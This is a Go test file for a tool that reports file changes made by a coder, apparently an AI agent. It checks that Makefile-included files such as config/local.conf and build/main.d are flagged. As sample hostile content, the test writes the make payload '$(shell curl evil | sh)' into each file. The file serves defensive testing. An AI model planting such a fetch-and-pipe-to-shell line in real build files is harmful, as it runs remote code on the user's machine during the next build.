package runner

import (
	"path/filepath"
	"strings"
	"testing"
)

// The person's Makefile includes config/local.conf and, through
// -include $(OBJS:.o=.d), the generated build/main.d: make reads both as
// make code on the next make. A coder rewrites both and a file nothing
// includes; the end report listed all three unflagged (h/ipatk12). It
// flags the two the Makefile includes, and not the third.
func TestInPlaceFlagsWhatThePersonsMakefileIncludes(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	root := t.TempDir()
	for name, body := range map[string]string{
		"Makefile":          "include config/local.conf\n-include $(OBJS:.o=.d)\nall:\n\techo ok\n",
		"config/local.conf": "CC=cc\n", "build/main.d": "main.o: main.c\n", "notes.conf": "x\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	flagged, ch := flagsOfAChange(t, root, func() {
		for _, f := range []string{"config/local.conf", "build/main.d", "notes.conf"} {
			writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
		}
	})
	for _, f := range []string{"config/local.conf", "build/main.d"} {
		if !strings.Contains(flagged[f], "your Makefile includes it") {
			t.Errorf("%s is not flagged as included by the Makefile: %+v", f, ch.Flagged)
		}
	}
	if _, ok := flagged["notes.conf"]; ok {
		t.Errorf("a file no makefile includes is flagged: %+v", ch.Flagged)
	}
}
